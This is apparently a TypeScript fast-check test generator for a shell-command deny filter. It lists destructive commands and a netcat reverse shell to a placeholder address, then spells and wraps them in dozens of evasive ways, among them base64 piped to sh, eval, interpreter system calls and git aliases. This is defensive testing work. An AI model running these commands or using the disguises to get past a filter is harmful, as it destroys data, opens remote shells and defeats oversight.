import fc from 'fast-check';

/** Commands that are denied when they stand in the clear. */
export const DENIED_COMMANDS: readonly (readonly string[])[] = [
  ['rm', '-rf', '/'],
  ['rm', '-r', '-f', '/home/agent'],
  ['chmod', '-R', '777', '/etc'],
  ['mkfs.ext4', '/dev/sda1'],
  ['dd', 'if=/dev/zero', 'of=/dev/sda'],
  ['git', 'push', '--force', 'origin', 'main'],
  ['kubectl', 'delete', 'namespace', 'prod'],
  ['terraform', 'destroy', '-auto-approve'],
  ['aws', 's3', 'rb', 's3://prod', '--force'],
  ['psql', '-c', 'DROP TABLE users'],
  ['nc', '-e', '/bin/sh', '203.0.113.5', '4444'],
  ['redis-cli', 'FLUSHALL'],
];

function single(word: string): string {
  return `'${word.replaceAll("'", "'\\''")}'`;
}

/** Spellings of one word that the shell reads as the same word. */
const QUOTINGS: readonly ((word: string) => string)[] = [
  (word) => (/^[\w./:=@-]+$/.test(word) ? word : single(word)),
  single,
  (word) => `"${word.replaceAll(/["\\$`]/g, '\\$&')}"`,
  (word) => `${single(word.slice(0, 1))}${single(word.slice(1))}`,
  (word) => Array.from(word, (character) => `\\${character}`).join(''),
  (word) =>
    `$'${Array.from(word, (character) => `\\x${character.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`,
  (word) => `${word.slice(0, 1)}""${quotedRest(word)}`,
];

function quotedRest(word: string): string {
  return word.length > 1 ? single(word.slice(1)) : '';
}

/** Words before a simple command that leave it the same command. */
const PREFIXES = ['', 'exec ', 'command ', 'sudo -n ', 'env A=1 ', 'nohup ', 'timeout 5 ', 'A=1 '];

const spelledCommand = fc
  .tuple(
    fc.constantFrom(...PREFIXES),
    fc.constantFrom(...DENIED_COMMANDS),
    fc.array(fc.constantFrom(...QUOTINGS), { minLength: 12, maxLength: 12 }),
    fc.array(fc.constantFrom(' ', '  ', '\t', ' \\\n '), { minLength: 12, maxLength: 12 }),
  )
  .map(([prefix, words, quotings, spaces]) =>
    (
      prefix +
      words
        .map((word, index) => (quotings[index] ?? single)(word) + (spaces[index] ?? ' '))
        .join('')
    ).trimEnd(),
  );

/** Ways to have a command line run by something else. */
const WRAPPINGS: readonly ((line: string) => string)[] = [
  (line) => `sh -c ${single(line)}`,
  (line) => `bash -lc ${single(line)}`,
  (line) => `env A=1 sh -c ${single(line)}`,
  (line) => `sudo -E bash -c ${single(line)}`,
  (line) => `eval ${single(line)}`,
  (line) => `echo ${single(line)} | sh`,
  (line) => `printf '%s' ${single(line)} | bash -s`,
  (line) => `echo ${Buffer.from(line).toString('base64')} | base64 -d | sh`,
  (line) => `bash <<< ${single(line)}`,
  (line) => `bash <<'END'\n${line}\nEND`,
  (line) => `C=${single(line)}; eval "$C"`,
  (line) => `C=${single(line)}; sh -c "$C"`,
  (line) => `f() { ${line}\n}; f`,
  (line) => `(${line}\n)`,
  (line) => `{ ${line}\n}`,
  (line) => `true && ${line}`,
  (line) => `cd /tmp; ${line}`,
  (line) => `if true; then ${line}\nfi`,
  (line) => `for i in 1 2; do ${line}\ndone`,
  (line) => `nohup timeout 5 nice -n 3 sh -c ${single(line)} &`,
  (line) => `xargs -I{} sh -c ${single(line)} <<< x`,
  (line) => `find . -maxdepth 0 -exec sh -c ${single(line)} \\;`,
  (line) => `x=$(${line}\n)`,
  (line) => `trap ${single(line)} EXIT`,
  (line) => `python3 -c ${single(`import os; os.system(${JSON.stringify(line)})`)}`,
  (line) => `node -e ${single(`require('child_process').execSync(${JSON.stringify(line)})`)}`,
  (line) => `echo ${single(line)} > /tmp/a.sh; sh /tmp/a.sh`,
  (line) => `source <(echo ${single(line)})`,
  (line) => `ssh host.example.com ${single(line)}`,
  (line) => `git -c alias.x=${single(`!${line}`)} x`,
];

/** A denied command, spelled and wrapped in up to four ways. */
export const disguisedCommand = fc
  .tuple(spelledCommand, fc.array(fc.constantFrom(...WRAPPINGS), { maxLength: 4 }))
  .map(([line, wrappings]) => wrappings.reduce((inner, wrap) => wrap(inner), line));

/** Pieces of shell, in no order a person would write them. */
export const shellSoup = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ...'$( ) ` " \' \\ ; | & && || < > << <<< >( <( { } ${ } [ ] [[ ]] (( )) * ? ~ ! # = += \n \t $ @ : \u0000 \u0001 \ud800'.split(
          ' ',
        ),
        'rm -rf /',
        'eval',
        'sh -c',
        'if',
        'then',
        'fi',
        'for x in',
        'do',
        'done',
        'case',
        'esac',
        'function',
        'base64 -d',
        'xargs',
        'EOF',
        'python -c',
        'select 1',
      ),
      fc.string({ unit: 'binary', maxLength: 6 }),
    ),
    { maxLength: 60 },
  )
  .map((pieces) => pieces.join(' '));
